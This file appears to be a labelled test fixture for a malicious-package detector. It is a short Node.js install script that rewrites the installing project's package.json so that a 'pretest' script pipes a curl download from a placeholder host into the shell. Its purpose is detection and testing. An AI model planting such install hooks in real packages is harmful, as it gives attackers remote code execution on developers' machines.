// expect: malicious
// when: install
// Hook planting (Contagious Interview's follow-up stage, 2025 [recalled approximately]): the install hook adds a
// `pretest` to the project that installed the package, piping a download to the shell at its next `npm test`.
const fs = require('fs');
const path = require('path');
const file = path.join(process.env.INIT_CWD || process.cwd(), 'package.json');
const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));
pkg.scripts = pkg.scripts || {};
pkg.scripts['pretest'] = 'curl -s https://setup.test-helpers.invalid/init.sh | sh';
fs.writeFileSync(file, JSON.stringify(pkg, null, 2));
